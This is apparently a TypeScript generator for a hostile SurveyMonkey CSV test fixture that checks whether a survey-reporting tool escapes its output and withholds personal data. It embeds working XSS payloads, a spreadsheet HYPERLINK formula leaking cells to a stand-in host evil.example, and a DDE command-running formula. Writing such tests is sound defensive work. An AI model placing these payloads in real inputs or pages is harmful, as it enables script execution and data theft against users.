/**
 * Generates fixtures/hostile/surveymonkey.csv: a SurveyMonkey export whose
 * texts attack every output. Question texts, matrix row labels, attribute
 * values and comments carry script tags, event-handler attributes, attribute
 * breakouts, `javascript:` links and spreadsheet formulas; comments carry
 * e-mail addresses and phone numbers; a few respondents belong to groups of
 * fewer than 5 and their comments carry a marker (`WITHHELD-…`) that must
 * never be published. Header texts are HTML-escaped, as SurveyMonkey writes
 * them, so they reach debrief as literal `<script>` text once decoded.
 * Seeded: the same run writes the same bytes.
 *
 *   node dist/scripts/gen-hostile.js [out-dir]
 */
import { type ExpectedFixture } from './expected.js';
import { isMain, writeFixtures, type FixtureFile } from './write-fixtures.js';
import { mulberry32, shuffle } from './random.js';
import { ratedAnswers, spread, type RatedCounts } from './spread.js';
import { surveyMonkeyCsv, type SurveyMonkeyMeta } from './exports/surveymonkey.js';
import type { Survey } from './exports/survey.js';

export const RESPONDENTS = 60;
const SCALE = ['Excellent', 'Good', 'Fair', 'Poor'];
const NOT_ATTENDED = 'Did not attend';

/** The payloads, as literal text. Those that set `window.__pwned` are the browser test's trap. */
export const PAYLOADS = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  svg: '"><svg onload=alert(1)>',
  scriptTrap: '<script>window.__pwned=1</script>',
  imgTrap: '<img src=x onerror="window.__pwned=1">',
  svgTrap: '"><svg onload="window.__pwned=1">',
  link: '<a href="javascript:window.__pwned=1">click</a>',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
} as const;

export const QUESTIONS = {
  role: `What is your role? ${PAYLOADS.scriptTrap}`,
  gender: 'What is your gender?',
  logistics: `Overall, how would you rate the logistical arrangements? ${PAYLOADS.img}`,
  plenary: `How would you rate each plenary session? ${PAYLOADS.svg}`,
  comment: `Any other comments or suggestions? ${PAYLOADS.script}`,
};

/** Matrix rows of the plenary question: each carries one payload. */
export const PLENARIES: RatedCounts[] = [
  { label: `Plenary 1 – ${PAYLOADS.script}`, counts: [14, 22, 8, 3], notApplicable: 6 },
  { label: `Plenary 2 – ${PAYLOADS.imgTrap}`, counts: [12, 20, 9, 4], notApplicable: 9 },
  { label: `Plenary 3 – ${PAYLOADS.svgTrap}`, counts: [15, 19, 7, 5], notApplicable: 8 },
  { label: `Plenary 4 – ${PAYLOADS.link} javascript:alert(1)`, counts: [10, 21, 10, 4], notApplicable: 10 },
  { label: `Plenary 5 – ${PAYLOADS.formula}`, counts: [13, 18, 9, 6], notApplicable: 7 },
];

export const LOGISTICS: RatedCounts = { label: QUESTIONS.logistics, counts: [21, 26, 8, 3], notApplicable: 0 };

/** An answer off the scale in Plenary 1: it must show up, escaped, in the warnings. */
export const OFF_SCALE = PAYLOADS.imgTrap;

/** Role values and how many hold each; the last two are groups of fewer than 5. */
export const ROLES: [string, number][] = [
  ['Delegate', 22],
  ['Observer', 13],
  [PAYLOADS.script, 8],
  [PAYLOADS.formula, 6],
  [PAYLOADS.img, 3],
  ['javascript:alert(1)', 2],
];
export const GENDERS: [string, number][] = [
  ['Female', 27],
  ['Male', 27],
  ['Prefer to self-describe', 2],
];
/** Values held by fewer than 5 respondents. */
export const RARE = new Set([PAYLOADS.img, 'javascript:alert(1)', 'Prefer to self-describe']);

/** Comments of respondents in published groups: payloads, contact details, plain text. */
export const COMMENTS = [
  PAYLOADS.script,
  PAYLOADS.img,
  PAYLOADS.svg,
  `${PAYLOADS.scriptTrap} Great meeting overall, thank you.`,
  `More details [here](javascript:window.__pwned=1) or ${PAYLOADS.link}.`,
  PAYLOADS.formula,
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1) is not a formula here',
  '-2+3 people complained about the coffee',
  'Contact me: jane.doe@example.org or +41 22 917 12 34.',
  'Call 022 917 12 34 or write to info@delegation.example.net.',
  'The side-events overlapped; hard to choose.',
  'Interpretation was missing in some rooms.\nPlease fix for next year.',
  'Badge collection took over an hour on day 1.',
  `${PAYLOADS.imgTrap}${PAYLOADS.svgTrap}</textarea></title></style><script>window.__pwned=1</script>`,
];

/** The contact details written in the comments: never in any output. */
export const CONTACTS = ['jane.doe@example.org', '+41 22 917 12 34', '022 917 12 34', 'info@delegation.example.net'];

/** Marker of a comment that must be withheld. */
export const WITHHELD = 'WITHHELD-';

/** Builds the whole CSV text, and the personal data it holds. */
export function generate(seed = 666): { csv: string; pii: string[] } {
  const random = mulberry32(seed);
  const roles = spread(ROLES, RESPONDENTS, random, 'roles');
  const genders = spread(GENDERS, RESPONDENTS, random, 'genders');
  const logistics = ratedAnswers(LOGISTICS, SCALE, 'N/A', RESPONDENTS, random);
  const plenaries = PLENARIES.map((p) => ratedAnswers(p, SCALE, NOT_ATTENDED, RESPONDENTS, random));
  // One blank of Plenary 1 becomes an answer off the scale.
  const blank = plenaries[0].indexOf('');
  plenaries[0][blank] = OFF_SCALE;
  const commenters = new Set(shuffle([...Array(RESPONDENTS).keys()], random).slice(0, 40));
  const survey: Survey<SurveyMonkeyMeta> = {
    questions: [
      { kind: 'single', text: QUESTIONS.role, options: ROLES.map(([label]) => label) },
      { kind: 'single', text: QUESTIONS.gender, options: GENDERS.map(([label]) => label) },
      { kind: 'rating', text: QUESTIONS.logistics, scale: SCALE, notApplicable: 'N/A' },
      { kind: 'matrix', text: QUESTIONS.plenary, rows: PLENARIES.map((p) => p.label), scale: SCALE, notApplicable: NOT_ATTENDED },
      { kind: 'text', text: QUESTIONS.comment },
    ],
    respondents: [],
  };
  const pii: string[] = [...CONTACTS];
  let published = 0;
  for (let r = 0; r < RESPONDENTS; r++) {
    const email = `delegate${r}@mission.example.org`;
    const ip = `10.${r}.66.${(r * 7) % 250 + 1}`;
    pii.push(email, ip);
    const rare = RARE.has(roles[r]) || RARE.has(genders[r]);
    let comment = '';
    if (rare) comment = `${WITHHELD}${r}: as the only one in my group, I can be recognised.`;
    else if (commenters.has(r)) comment = COMMENTS[published++ % COMMENTS.length];
    survey.respondents.push({
      meta: { id: String(90000000 + r * 13), collector: '4242', start: '03/02/2020 09:00:00 AM', end: '03/02/2020 09:10:00 AM', ip, email, first: 'Test', last: `Person${r}` },
      answers: [roles[r], genders[r], logistics[r], plenaries.map((p) => p[r]), comment],
    });
  }
  return { csv: surveyMonkeyCsv(survey, { escapeHtml: true }), pii: [...new Set(pii)].sort() };
}

/** The expectation, from the chosen counts: the labels as debrief must report them (decoded, literal). */
export function expected(pii: string[]): ExpectedFixture {
  const item = (c: RatedCounts, group: string, offScale = 0): ExpectedFixture['items'][number] => ({
    label: c.label,
    group,
    counts: c.counts,
    notApplicable: c.notApplicable,
    missing: RESPONDENTS - c.counts.reduce((a, b) => a + b, 0) - c.notApplicable - offScale,
    ...(offScale ? { unrecognised: offScale } : {}),
  });
  return {
    tool: 'surveymonkey',
    respondents: RESPONDENTS,
    encoding: 'utf-8',
    delimiter: ',',
    items: [item(LOGISTICS, 'logistics'), ...PLENARIES.map((p, k) => item(p, 'plenary', k === 0 ? 1 : 0))],
    pii,
  };
}

/** The folder's export and its expectation. */
export function fixtures(): FixtureFile[] {
  const { csv, pii } = generate();
  return [{ name: 'surveymonkey.csv', data: csv, expected: expected(pii) }];
}

if (isMain(import.meta.url)) writeFixtures(process.argv[2] ?? 'fixtures/hostile', fixtures());
